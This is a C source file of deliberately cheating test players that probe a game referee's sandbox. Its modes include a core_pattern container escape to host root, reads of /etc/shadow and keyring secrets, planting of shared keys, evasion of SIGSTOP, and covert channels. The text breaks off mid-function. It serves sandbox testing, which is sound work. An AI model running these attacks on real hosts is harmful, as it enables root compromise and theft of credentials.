/*
 * cheater: the cheating players of the sandbox's tests (issue 48).
 *
 *     cheater MODE [ARGS...] [-- PROGRAM [PROGRAM ARGS...]]
 *
 * A cheater performs the attack of its MODE, reports what it saw on
 * stderr, one line per observation,
 *
 *     @attack MODE: KEY: VALUE
 *
 * (the referee logs a seat's stderr in logs/playerN.log), possibly leaves
 * helpers running, then execs PROGRAM, the honest player that plays the
 * game on as the same process. Without `--` it exits after the attack.
 * A failed call reports `KEY: ENAME (text)` with the errno's name, a
 * success `KEY: OK` and what it got, so that tests can match either.
 *
 * Modes (t = 0 is the start of the cheater; the two seats of a channel
 * start within a few milliseconds of each other):
 *
 *   root --marker PATH     take the machine's root through core_pattern,
 *                          then read what root can read, open devices
 *   keyring [TAG]          read the inherited keyrings, plant keys
 *   keyring-look           look for keys planted by an earlier game
 *   keyring-clean          remove the planted keys it can reach
 *   keyring-host SECRET    (a launcher, not a player) a new session
 *                          keyring holding the user key
 *                          `referee-test-token`, then exec PROGRAM
 *   ponder-burn            a CPU burner in a process group of its own
 *   ponder-cont            a helper that continues the stopped player
 *   flock-send FILE, flock-recv FILE        covert channel: a lock
 *   inotify-send FILE, inotify-recv FILE    covert channel: inotify
 *   cgroup-send, cgroup-recv                covert channel: memory use
 *   unix PATH, fifo PATH   reach a machine's socket or FIFO
 *   sockets                the socket families a seat can have
 *   pty                    take pseudo-terminals from the pool
 *   env                    the environment, $HOME and $TMPDIR
 *   syscalls               the system calls a seat should not have
 *
 * Only libc: the keyring, mount and other calls without a glibc wrapper
 * go through syscall(2).
 *
 * Build: gcc -O2 -Wall -Wextra -o cheater cheater.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/vm_sockets.h>

/* The mode, named in every report line. */
static const char *mode = "cheater";

/* The cheater's start: t = 0 of the channels' schedules. */
static struct timespec t_start;

/* The key description prefix of the planted keys. */
#define PLANTED "planted-"

/* The session keyring's name and the key a CI job would hold in it. */
#define HOST_SESSION "referee-test-session"
#define HOST_TOKEN "referee-test-token"

/* A key's permission bits (keyutils' names; the kernel's headers have
 * none): every right of the possessor, of the owning uid, of everyone. */
#define KEY_POS_ALL 0x3f000000
#define KEY_USR_ALL 0x003f0000
#define KEY_EVERYONE_ALL 0x3f3f3f3f

/* ------------------------------------------------------------------ */
/* Reporting                                                            */

/*
 * Writes one report line. The line goes out in a single write(2) of at
 * most PIPE_BUF bytes, so that the lines of helpers sharing the log pipe
 * do not interleave; a tab becomes a space and other control characters
 * (a newline in a variable or a key's payload) '?', so that one
 * observation stays one line.
 */
__attribute__((format(printf, 1, 2)))
static void say(const char *fmt, ...)
{
	char line[4096];
	int head = snprintf(line, sizeof line, "@attack %s: ", mode);
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(line + head, sizeof line - head - 1, fmt, ap);
	va_end(ap);
	size_t len = strlen(line);
	for (size_t i = head; i < len; i++)
		if (line[i] == '\t')
			line[i] = ' ';
		else if ((unsigned char)line[i] < 0x20 || line[i] == 0x7f)
			line[i] = '?';
	line[len++] = '\n';
	if (write(2, line, len) < 0) {
		/* Nowhere left to report to: the attack goes on unseen. */
	}
}

/* The errno's name ("EPERM"), which tests match on. */
static const char *ename(int e)
{
	const char *name = strerrorname_np(e);

	return name ? name : "E?";
}

/* Reports a failed call: `WHAT: ENAME (text)`. */
static void say_errno(const char *what, int e)
{
	say("%s: %s (%s)", what, ename(e), strerror(e));
}

/* "SIGABRT" for SIGABRT. */
static const char *signame(int sig)
{
	static char buf[32];
	const char *abbrev = sigabbrev_np(sig);

	if (abbrev)
		snprintf(buf, sizeof buf, "SIG%s", abbrev);
	else
		snprintf(buf, sizeof buf, "signal %d", sig);
	return buf;
}

/* How a child ended, in words. */
static const char *status_text(int status)
{
	static char buf[64];

	if (WIFSIGNALED(status))
		snprintf(buf, sizeof buf, "killed by %s%s", signame(WTERMSIG(status)),
			 WCOREDUMP(status) ? " (core dumped)" : "");
	else
		snprintf(buf, sizeof buf, "exited with status %d", WEXITSTATUS(status));
	return buf;
}

/* ------------------------------------------------------------------ */
/* Time                                                                 */

static long long ms_between(const struct timespec *a, const struct timespec *b)
{
	return (b->tv_sec - a->tv_sec) * 1000LL + (b->tv_nsec - a->tv_nsec) / 1000000;
}

/* Milliseconds of CLOCK_MONOTONIC since `t0`. */
static long long ms_since(const struct timespec *t0)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return ms_between(t0, &now);
}

/*
 * Sleeps until `ms` after the cheater's start: the channels' schedules
 * are absolute, so that a late wake-up on a loaded machine does not push
 * every later step back.
 */
static void sleep_until(long long ms)
{
	struct timespec at = t_start;

	at.tv_sec += ms / 1000;
	at.tv_nsec += (ms % 1000) * 1000000;
	if (at.tv_nsec >= 1000000000) {
		at.tv_sec++;
		at.tv_nsec -= 1000000000;
	}
	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &at, NULL) == EINTR)
		;
}

static void sleep_ms(long ms)
{
	struct timespec d = { ms / 1000, (ms % 1000) * 1000000 };

	while (nanosleep(&d, &d) < 0 && errno == EINTR)
		;
}

/* ------------------------------------------------------------------ */
/* Files                                                                */

/*
 * Reads at most `size - 1` bytes of `path` into `buf`, NUL-terminated.
 * Returns the length, or -errno.
 */
static ssize_t read_file(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	size_t len = 0;

	if (fd < 0)
		return -errno;
	while (len < size - 1) {
		ssize_t n = read(fd, buf + len, size - 1 - len);

		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0) {
			int e = errno;

			close(fd);
			return -e;
		}
		if (n == 0)
			break;
		len += n;
	}
	close(fd);
	buf[len] = '\0';
	return len;
}

/* Writes `data` to `path` in one write(2) (a /proc/sys file takes its
 * value from one write). Returns 0 or the errno. */
static int write_file(const char *path, const char *data, int flags, mode_t perm)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | flags, perm);
	size_t len = strlen(data);

	if (fd < 0)
		return errno;
	if (write(fd, data, len) != (ssize_t)len) {
		int e = errno ? errno : EIO;

		close(fd);
		return e;
	}
	if (close(fd) < 0)
		return errno;
	return 0;
}

/* Strips the trailing newlines of a file's content. */
static void chomp(char *s)
{
	size_t n = strlen(s);

	while (n > 0 && s[n - 1] == '\n')
		s[--n] = '\0';
}

static int by_name(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/*
 * Reports the entries of `dir`, sorted: `KEY: N entries: a b c`, cut
 * with " ..." where the line would be too long for one report.
 */
static void list_dir(const char *key, const char *dir)
{
	DIR *d = opendir(dir);
	char *names[1024];
	size_t n = 0;
	struct dirent *e;

	if (!d) {
		say_errno(key, errno);
		return;
	}
	while ((e = readdir(d)) && n < sizeof names / sizeof *names)
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			names[n++] = strdup(e->d_name);
	closedir(d);
	qsort(names, n, sizeof *names, by_name);

	char line[3500];
	size_t len = 0;

	line[0] = '\0';
	for (size_t i = 0; i < n; i++) {
		size_t w = strlen(names[i]);

		if (len + w + 5 >= sizeof line) {
			strcpy(line + len, " ...");
			break;
		}
		len += sprintf(line + len, " %s", names[i]);
	}
	say("%s: %zu entries:%s", key, n, line);
	for (size_t i = 0; i < n; i++)
		free(names[i]);
}

/* The CapEff line of /proc/self/status ("000001ffffffffff"), or NULL. */
static const char *cap_eff(void)
{
	static char status[8192];
	char *p;

	if (read_file("/proc/self/status", status, sizeof status) < 0)
		return NULL;
	p = strstr(status, "CapEff:\t");
	if (!p)
		return NULL;
	p += strlen("CapEff:\t");
	p[strcspn(p, "\n")] = '\0';
	return p;
}

/* ------------------------------------------------------------------ */
/* root: the machine's root through kernel.core_pattern                 */

#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
#define PWN_SCRIPT "/tmp/pwn.sh"

/* Appends `s` to `out` as one shell word in single quotes. */
static void shell_quote(char *out, size_t size, const char *s)
{
	size_t len = strlen(out);

	if (len + 1 < size)
		out[len++] = '\'';
	for (; *s && len + 5 < size; s++) {
		if (*s == '\'') {
			memcpy(out + len, "'\\''", 4);
			len += 4;
		} else {
			out[len++] = *s;
		}
	}
	if (len + 1 < size)
		out[len++] = '\'';
	out[len] = '\0';
}

/*
 * Crashes a child, then waits up to 2 s for the marker that the script
 * the kernel runs for its core writes.
 */
static void crash_and_look(const char *marker)
{
	pid_t pid = fork();
	int status;

	if (pid < 0) {
		say_errno("fork", errno);
		return;
	}
	if (pid == 0) {
		/* A process is dumped only if dumpable, which an exec may have
		 * cleared; the attacker may set it back. */
		prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
		abort();
	}
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	say("crash: %s", status_text(status));

	struct timespec t0;
	int present;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	while (!(present = access(marker, F_OK) == 0) && ms_since(&t0) < 2000)
		sleep_ms(20);
	say("marker: %s", present ? "present" : "absent");
	if (present) {
		char content[256];

		/* The script creates the file before grep writes it. */
		sleep_ms(100);
		if (read_file(marker, content, sizeof content) >= 0) {
			chomp(content);
			say("marker content: %s", content);
		}
	}
}

/*
 * The core_pattern now pipes cores to /proc/%P/root/tmp/pwn.sh: the
 * kernel runs it as the machine's root, with every capability, in the
 * machine's namespaces, finding the script through the crashing
 * process's root, that is in the jail's own /tmp. The script proves it
 * ran by writing its capabilities into `marker` on the machine's disk,
 * and puts the original pattern back; the cheater restores it too,
 * whatever happened.
 */
static void crash_through_core_pattern(const char *marker, const char *orig)
{
	char script[8192] = "#!/bin/sh\ngrep CapEff /proc/self/status > ";

	shell_quote(script, sizeof script, marker);
	strcat(script, "\nprintf '%s\\n' ");
	shell_quote(script, sizeof script, orig);
	strcat(script, " > " CORE_PATTERN "\n");

	int e = write_file(PWN_SCRIPT, script, O_CREAT | O_TRUNC, 0755);

	if (e) {
		say_errno("script", e);
	} else {
		/* The umask may have taken the execute bits off. */
		chmod(PWN_SCRIPT, 0755);
		say("script: OK (" PWN_SCRIPT ")");
		crash_and_look(marker);
	}

	e = write_file(CORE_PATTERN, orig, 0, 0);
	if (e)
		say_errno("core_pattern restore", e);
	else
		say("core_pattern restore: OK");
	unlink(PWN_SCRIPT);
}

static int mode_root(int argc, char **argv)
{
	const char *marker = NULL;

	for (int i = 0; i + 1 < argc; i++)
		if (!strcmp(argv[i], "--marker"))
			marker = argv[i + 1];
	if (!marker) {
		fprintf(stderr, "usage: cheater root --marker PATH [-- PROGRAM...]\n");
		return 2;
	}

	say("uid: %u euid: %u", (unsigned)getuid(), (unsigned)geteuid());
	const char *cap = cap_eff();

	if (cap)
		say("capeff: %s", cap);
	else
		say("capeff: unknown");

	char orig[4096];
	ssize_t n = read_file(CORE_PATTERN, orig, sizeof orig);

	if (n < 0) {
		/* Unread (a /proc without /proc/sys): should the write go
		 * through anyway, the kernel's default is what is put back. */
		say_errno("core_pattern read", -n);
		strcpy(orig, "core");
	} else {
		chomp(orig);
		say("core_pattern: %s", orig);
	}
	int e = write_file(CORE_PATTERN, "|/proc/%P/root" PWN_SCRIPT " %P", 0, 0);

	if (e) {
		say_errno("core_pattern write", e);
	} else {
		say("core_pattern write: OK");
		crash_through_core_pattern(marker, orig);
	}

	int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		say_errno("shadow", errno);
	} else {
		char buf[65536];
		ssize_t got = read(fd, buf, sizeof buf);

		if (got < 0)
			say_errno("shadow", errno);
		else
			say("shadow: read %zd bytes", got);
		close(fd);
	}

	list_dir("root dir", "/root");

	fd = open("/dev/kvm", O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		say_errno("kvm", errno);
	} else {
		say("kvm: OK");
		close(fd);
	}

	/* /dev/null's numbers: a node that opens means the mount lets
	 * devices through (no nodev). */
	char node[64];

	snprintf(node, sizeof node, "/tmp/cheater-null-%d", (int)getpid());
	if (mknod(node, S_IFCHR | 0600, makedev(1, 3)) < 0) {
		say_errno("mknod", errno);
	} else {
		say("mknod: OK (%s)", node);
		fd = open(node, O_RDWR | O_CLOEXEC);
		if (fd < 0) {
			say_errno("mknod open", errno);
		} else {
			say("mknod open: OK");
			close(fd);
		}
		unlink(node);
	}

	list_dir("dev", "/dev");
	list_dir("sys cgroup", "/sys/fs/cgroup");
	return 0;
}

/* ------------------------------------------------------------------ */
/* Keyrings                                                             */

static long keyctl(int cmd, unsigned long a2, unsigned long a3, unsigned long a4,
		   unsigned long a5)
{
	return syscall(SYS_keyctl, cmd, a2, a3, a4, a5);
}

static long add_key(const char *type, const char *desc, const void *payload, size_t len,
		    int32_t keyring)
{
	return syscall(SYS_add_key, type, desc, payload, len, keyring);
}

/* The keys linked in `keyring`, at most `max`: their number, or -errno. */
static long keyring_keys(int32_t keyring, int32_t *keys, size_t max)
{
	long n = keyctl(KEYCTL_READ, keyring, (unsigned long)keys, max * sizeof *keys, 0);

	if (n < 0)
		return -errno;
	n /= sizeof *keys;
	return n < (long)max ? n : (long)max;
}

/*
 * A key's "type;uid;gid;perm;description" into `buf`; returns 0 or the
 * errno. `*desc` points at its description.
 */
static int key_describe(int32_t key, char *buf, size_t size, const char **desc)
{
	long n = keyctl(KEYCTL_DESCRIBE, key, (unsigned long)buf, size, 0);

	if (n < 0)
		return errno;
	buf[size - 1] = '\0';
	const char *p = buf;

	for (int i = 0; i < 4 && p; i++) {
		p = strchr(p, ';');
		if (p)
			p++;
	}
	*desc = p ? p : "";
	return 0;
}

/* A key's payload, as text, into `buf`; returns 0 or the errno. */
static int key_payload(int32_t key, char *buf, size_t size)
{
	long n = keyctl(KEYCTL_READ, key, (unsigned long)buf, size - 1, 0);

	if (n < 0)
		return errno;
	buf[n < (long)size - 1 ? n : (long)size - 1] = '\0';
	return 0;
}

/* Reports the planted keys linked in `keyring`: `planted in WHERE:
 * yes (DESC ...)`, `no`, or the errno. */
static void look_in_keyring(const char *where, int32_t keyring)
{
	int32_t keys[256];
	long n = keyring_keys(keyring, keys, 256);
	char key[64], found[2048] = "";

	snprintf(key, sizeof key, "planted in %s", where);
	if (n < 0) {
		say_errno(key, -n);
		return;
	}
	for (long i = 0; i < n; i++) {
		char d[512];
		const char *desc;

		if (!key_describe(keys[i], d, sizeof d, &desc) && !strncmp(desc, PLANTED, strlen(PLANTED)) &&
		    strlen(found) + strlen(desc) + 2 < sizeof found) {
			strcat(found, found[0] ? " " : "");
			strcat(found, desc);
		}
	}
	if (found[0])
		say("%s: yes (%s)", key, found);
	else
		say("%s: no", key);
}

/*
 * The /proc/keys lines of planted keys, each with its serial (the first
 * field, in hex). Returns their number, or -errno.
 */
static long planted_in_proc_keys(char lines[][256], int32_t *ids, size_t max)
{
	static char all[65536];
	ssize_t n = read_file("/proc/keys", all, sizeof all);
	size_t found = 0;

	if (n < 0)
		return n;
	for (char *line = strtok(all, "\n"); line && found < max; line = strtok(NULL, "\n")) {
		/* "ID FLAGS USAGE TIMEOUT PERM UID GID TYPE DESCRIPTION: ...":
		 * the description follows the spaces after the type. */
		if (!strstr(line, " " PLANTED))
			continue;
		snprintf(lines[found], 256, "%s", line);
		ids[found] = (int32_t)strtoul(line, NULL, 16);
		found++;
	}
	return found;
}

static int mode_keyring(int argc, char **argv)
{
	static char all[65536];
	ssize_t n = read_file("/proc/keys", all, sizeof all);

	/* The uid owns the seat's user keyring, which outlives the game. */
	say("uid: %u euid: %u", (unsigned)getuid(), (unsigned)geteuid());
	if (n < 0) {
		say_errno("proc keys", -n);
	} else {
		long lines = 0;

		for (char *p = all; *p; p++)
			lines += *p == '\n';
		say("proc keys: %ld lines", lines);
		for (char *line = strtok(all, "\n"); line; line = strtok(NULL, "\n"))
			say("proc key: %s", line);
	}

	int32_t keys[256];
	long count = keyring_keys(KEY_SPEC_SESSION_KEYRING, keys, 256);

	if (count < 0) {
		say_errno("session keyring", -count);
	} else {
		say("session keyring: %ld keys", count);
		for (long i = 0; i < count; i++) {
			char d[512], what[600];
			const char *desc;
			int e = key_describe(keys[i], d, sizeof d, &desc);

			snprintf(what, sizeof what, "session key %d", keys[i]);
			if (e) {
				say_errno(what, e);
				continue;
			}
			say("%s: %s", what, d);
			if (strncmp(d, "user;", 5))
				continue;

			char payload[1024];

			snprintf(what, sizeof what, "key %s", desc);
			e = key_payload(keys[i], payload, sizeof payload);
			if (e)
				say_errno(what, e);
			else
				say("%s: %s", what, payload);
		}
	}

	long found = keyctl(KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, (unsigned long)"user",
			    (unsigned long)HOST_TOKEN, 0);

	if (found < 0) {
		say_errno("search " HOST_TOKEN, errno);
	} else {
		char payload[1024];
		int e = key_payload(found, payload, sizeof payload);

		say("search " HOST_TOKEN ": OK (key %ld)", found);
		if (e)
			say_errno("search payload", e);
		else
			say("search payload: %s", payload);
	}

	/*
	 * Plant a key in the seat's user keyring and in the session keyring,
	 * open to everyone (all permission bits), so that any later process
	 * can see it in /proc/keys and read it: a mailbox that outlives the
	 * game.
	 */
	char desc[128];

	if (argc > 0)
		snprintf(desc, sizeof desc, PLANTED "%s", argv[0]);
	else
		snprintf(desc, sizeof desc, PLANTED "%d", (int)getpid());
	const struct {
		const char *where;
		int32_t keyring;
	} targets[] = {
		{ "user keyring", KEY_SPEC_USER_KEYRING },
		{ "session keyring", KEY_SPEC_SESSION_KEYRING },
	};

	for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
		char what[64];
		long key = add_key("user", desc, "x", 1, targets[i].keyring);

		snprintf(what, sizeof what, "plant %s", targets[i].where);
		if (key < 0) {
			say_errno(what, errno);
			continue;
		}
		say("%s: OK (key %ld %s)", what, key, desc);
		/* Needs the key's setattr right, which only its possessor has:
		 * a key of the user keyring is not possessed where the session
		 * keyring does not link that keyring. */
		strcat(what, " setperm");
		if (keyctl(KEYCTL_SETPERM, key, KEY_EVERYONE_ALL, 0, 0) < 0)
			say_errno(what, errno);
		else
			say("%s: OK", what);
	}
	return 0;
}

static int mode_keyring_look(int argc, char **argv)
{
	char lines[64][256];
	int32_t ids[64];
	long n = planted_in_proc_keys(lines, ids, 64);

	(void)argc;
	(void)argv;
	if (n < 0) {
		say_errno("planted in proc keys", -n);
	} else if (n == 0) {
		say("planted in proc keys: no");
	} else {
		say("planted in proc keys: yes (%ld keys)", n);
		for (long i = 0; i < n; i++) {
			char payload[256];
			int e = key_payload(ids[i], payload, sizeof payload);

			say("planted key: %s", lines[i]);
			if (e)
				say_errno("planted payload", e);
			else
				say("planted payload: %s", payload);
		}
	}
	look_in_keyring("user keyring", KEY_SPEC_USER_KEYRING);
	look_in_keyring("session keyring", KEY_SPEC_SESSION_KEYRING);
	return 0;
}

/*
 * Unlinks the planted keys from `keyring` (the caller's own: its write
 * right is enough), adding their serials to `done` (at most 64).
 */
static void unlink_planted(const char *where, int32_t keyring, int32_t *done, size_t *n_done)
{
	int32_t keys[256];
	long n = keyring_keys(keyring, keys, 256);

	if (n < 0) {
		char what[64];

		snprintf(what, sizeof what, "read %s", where);
		say_errno(what, -n);
		return;
	}
	for (long i = 0; i < n; i++) {
		char d[512], what[600];
		const char *desc;

		if (key_describe(keys[i], d, sizeof d, &desc) || strncmp(desc, PLANTED, strlen(PLANTED)))
			continue;
		snprintf(what, sizeof what, "unlink %s from %s", desc, where);
		if (keyctl(KEYCTL_UNLINK, keys[i], keyring, 0, 0) < 0) {
			say_errno(what, errno);
			continue;
		}
		say("%s: OK", what);
		if (*n_done < 64)
			done[(*n_done)++] = keys[i];
	}
}

/*
 * Removes the planted keys: those of the caller's user and session
 * keyrings, then every other one /proc/keys shows (a key opened to
 * everyone may be invalidated by anyone, whichever uid planted it; an
 * unlinked key stays there until the kernel collects it).
 */
static int mode_keyring_clean(int argc, char **argv)
{
	char lines[64][256];
	int32_t ids[64], done[64];
	size_t n_done = 0;
	long n;

	(void)argc;
	(void)argv;
	unlink_planted("user keyring", KEY_SPEC_USER_KEYRING, done, &n_done);
	unlink_planted("session keyring", KEY_SPEC_SESSION_KEYRING, done, &n_done);
	n = planted_in_proc_keys(lines, ids, 64);
	if (n < 0) {
		say_errno("proc keys", -n);
		return 0;
	}
	for (long i = 0; i < n; i++) {
		char what[64];
		size_t j = 0;

		while (j < n_done && done[j] != ids[i])
			j++;
		if (j < n_done)
			continue;
		snprintf(what, sizeof what, "invalidate %x", (unsigned)ids[i]);
		if (keyctl(KEYCTL_INVALIDATE, ids[i], 0, 0, 0) < 0)
			say_errno(what, errno);
		else
			say("%s: OK", what);
	}
	say("unlinked: %zu seen in /proc/keys: %ld", n_done, n);
	return 0;
}

/*
 * The launcher of the keyring test: a session keyring of its own, as a
 * login or a CI job has, holding a secret the referee's players must not
 * see; the referee then runs in it.
 */
static int mode_keyring_host(int argc, char **argv)
{
	if (argc < 1) {
		fprintf(stderr, "usage: cheater keyring-host SECRET -- PROGRAM...\n");
		return 2;
	}
	long ring = keyctl(KEYCTL_JOIN_SESSION_KEYRING, (unsigned long)HOST_SESSION, 0, 0, 0);

	if (ring < 0) {
		say_errno("session", errno);
		return 1;
	}
	say("session: OK (keyring %ld)", ring);

	long key = add_key("user", HOST_TOKEN, argv[0], strlen(argv[0]), KEY_SPEC_SESSION_KEYRING);

	if (key < 0) {
		say_errno("token", errno);
		return 1;
	}
	say("token: OK (key %ld)", key);
	if (keyctl(KEYCTL_SETPERM, key, KEY_POS_ALL | KEY_USR_ALL, 0, 0) < 0)
		say_errno("token setperm", errno);
	return 0;
}

/* ------------------------------------------------------------------ */
/* --no-ponder                                                          */

/* How long a ponder helper keeps at it. */
#define PONDER_MS 60000

/*
 * Forks the helper of a ponder mode, in a process group of its own: the
 * referee stops a seat by a SIGSTOP to its process group, which then
 * misses it. Returns in the parent (which goes on to exec the player)
 * with 1, in the helper with 0.
 */
static int fork_helper(void)
{
	pid_t pid = fork();

	if (pid < 0) {
		say_errno("fork", errno);
		return 1;
	}
	if (pid > 0) {
		say("helper: OK (pid %d)", (int)pid);
		return 1;
	}
	if (setpgid(0, 0) < 0)
		say_errno("setpgid", errno);
	else
		say("setpgid: OK (group %d)", (int)getpid());
	return 0;
}

/*
 * Burns the CPU and says every 200 ms of wall time how much CPU it got:
 * stopped with its seat, it gets only the seat's own turns. It ends after
 * PONDER_MS, or when the player is gone (without a PID namespace nothing
 * else would end it).
 */
static int mode_ponder_burn(int argc, char **argv)
{
	pid_t player = getpid();
	struct timespec t0;
	long long next = 200;

	(void)argc;
	(void)argv;
	if (fork_helper())
		return 0;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		long long wall = ms_since(&t0);

		if (wall < next)
			continue;
		struct timespec cpu;

		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &cpu);
		say("cpu: %lld ms wall: %lld ms", cpu.tv_sec * 1000LL + cpu.tv_nsec / 1000000, wall);
		while (next <= wall)
			next += 200;
		if (wall >= PONDER_MS || getppid() != player)
			_exit(0);
	}
}

/* The state letter of /proc/PID/stat (field 3), or 0 if it is gone. */
static char proc_state(const char *stat_path)
{
	char buf[1024];
	char *p;

	if (read_file(stat_path, buf, sizeof buf) < 0)
		return 0;
	/* The command name (field 2) may hold spaces and parentheses: the
	 * state follows the last ')'. */
	p = strrchr(buf, ')');
	return p && p[1] == ' ' ? p[2] : 0;
}

/*
 * Every millisecond, looks whether the player is stopped and, if it is,
 * continues it: the player thinks on while the referee believes it
 * stopped.
 */
static int mode_ponder_cont(int argc, char **argv)
{
	pid_t player = getpid();
	char stat_path[64];
	struct timespec t0;
	long long next = 200;
	long seen = 0, continued = 0;
	int failed = 0;

	(void)argc;
	(void)argv;
	snprintf(stat_path, sizeof stat_path, "/proc/%d/stat", (int)player);
	if (fork_helper())
		return 0;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		char state = proc_state(stat_path);

		if (!state || getppid() != player)
			_exit(0);
		if (state == 'T') {
			seen++;
			if (kill(player, SIGCONT) == 0) {
				continued++;
			} else if (!failed) {
				failed = 1;
				say_errno("sigcont", errno);
			}
		}
		long long wall = ms_since(&t0);

		if (wall >= next) {
			say("stopped-seen: %ld continued: %ld", seen, continued);
			while (next <= wall)
				next += 200;
		}
		if (wall >= PONDER_MS)
			_exit(0);
		sleep_ms(1);
	}
}

/* ------------------------------------------------------------------ */
/* Covert channels                                                      */

static int need_path(int argc, const char *usage)
{
	if (argc < 1) {
		fprintf(stderr, "usage: cheater %s\n", usage);
		return 2;
	}
	return 0;
}

/* Holds an exclusive lock on FILE from t = 0 to 2 s. */
static int mode_flock_send(int argc, char **argv)
{
	if (need_path(argc, "flock-send FILE [-- PROGRAM...]"))
		return 2;
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		say_errno("open", errno);
		return 0;
	}
	if (flock(fd, LOCK_EX) < 0)
		say_errno("lock", errno);
	else
		say("lock: OK (t=%lld ms)", ms_since(&t_start));
	sleep_until(2000);
	close(fd);
	say("released: OK (t=%lld ms)", ms_since(&t_start));
	return 0;
}

/* Reports the /proc/locks lines of the inode `ino`. */
static void proc_locks(unsigned long ino)
{
	static char all[65536];
	ssize_t n = read_file("/proc/locks", all, sizeof all);
	char pattern[32];
	int found = 0;

	if (n < 0) {
		say_errno("proc locks", -n);
		return;
	}
	/* The lock's file is "MAJOR:MINOR:INODE " (field 6). */
	snprintf(pattern, sizeof pattern, ":%lu ", ino);
	for (char *line = strtok(all, "\n"); line; line = strtok(NULL, "\n"))
		if (strstr(line, pattern)) {
			say("proc locks: %s", line);
			found++;
		}
	if (!found)
		say("proc locks: no lock on inode %lu", ino);
}

/*
 * Tries the lock every 50 ms from t = 0.5 to 1.5 s, while the sender
 * should hold it; reads /proc/locks in the middle.
 */
static int mode_flock_recv(int argc, char **argv)
{
	if (need_path(argc, "flock-recv FILE [-- PROGRAM...]"))
		return 2;
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	struct stat st;

	if (fd < 0) {
		say_errno("open", errno);
		return 0;
	}
	if (fstat(fd, &st) < 0) {
		say_errno("fstat", errno);
		close(fd);
		return 0;
	}

	int tries = 0, held = 0, other = 0;

	for (long long t = 500; t <= 1500; t += 50) {
		sleep_until(t);
		tries++;
		if (flock(fd, LOCK_EX | LOCK_NB) == 0) {
			flock(fd, LOCK_UN);
		} else if (errno == EWOULDBLOCK) {
			held++;
		} else if (!other++) {
			say_errno("flock", errno);
		}
		if (t == 1000)
			proc_locks(st.st_ino);
	}
	close(fd);
	say("held by another: %s (%d of %d tries)", held ? "yes" : "no", held, tries);
	return 0;
}

/* Opens and reads FILE 20 times between t = 0.4 and 1.2 s. */
static int mode_inotify_send(int argc, char **argv)
{
	if (need_path(argc, "inotify-send FILE [-- PROGRAM...]"))
		return 2;
	int ok = 0, err = 0;

	for (int i = 0; i < 20; i++) {
		char buf[4096];

		sleep_until(400 + i * 40);
		int fd = open(argv[0], O_RDONLY | O_CLOEXEC);

		if (fd < 0) {
			err = errno;
			continue;
		}
		if (read(fd, buf, sizeof buf) >= 0)
			ok++;
		else
			err = errno;
		close(fd);
	}
	say("reads: %d of 20", ok);
	if (err)
		say_errno("read", err);
	return 0;
}

/* Counts the opens, reads and closes of FILE from t = 0 to 2 s. */
static int mode_inotify_recv(int argc, char **argv)
{
	if (need_path(argc, "inotify-recv FILE [-- PROGRAM...]"))
		return 2;
	int fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);

	if (fd < 0) {
		say_errno("inotify_init1", errno);
		return 0;
	}
	if (inotify_add_watch(fd, argv[0], IN_OPEN | IN_ACCESS | IN_CLOSE_NOWRITE) < 0) {
		say_errno("inotify_add_watch", errno);
		close(fd);
		return 0;
	}
	say("inotify_add_watch: OK");

	int events = 0, opens = 0, accesses = 0, closes = 0;

	for (;;) {
		long long left = 2000 - ms_since(&t_start);

		if (left <= 0)
			break;
		struct pollfd p = { fd, POLLIN, 0 };

		if (poll(&p, 1, left) <= 0)
			continue;

		char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
		ssize_t n = read(fd, buf, sizeof buf);

		for (ssize_t off = 0; off < n;) {
			const struct inotify_event *ev = (const void *)(buf + off);

			events++;
			opens += !!(ev->mask & IN_OPEN);
			accesses += !!(ev->mask & IN_ACCESS);
			closes += !!(ev->mask & IN_CLOSE_NOWRITE);
			off += sizeof *ev + ev->len;
		}
	}
	close(fd);
	say("events: %d", events);
	say("event kinds: open %d access %d close %d", opens, accesses, closes);
	return 0;
}

/* Touches 64 MiB from t = 0.5 to 1.5 s: the pulse its cgroup shows. */
static int mode_cgroup_send(int argc, char **argv)
{
	const size_t size = 64 << 20;

	(void)argc;
	(void)argv;
	sleep_until(500);
	char *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED) {
		say_errno("allocate", errno);
		return 0;
	}
	memset(p, 1, size);
	say("allocated: 64 MiB (t=%lld ms)", ms_since(&t_start));
	sleep_until(1500);
	munmap(p, size);
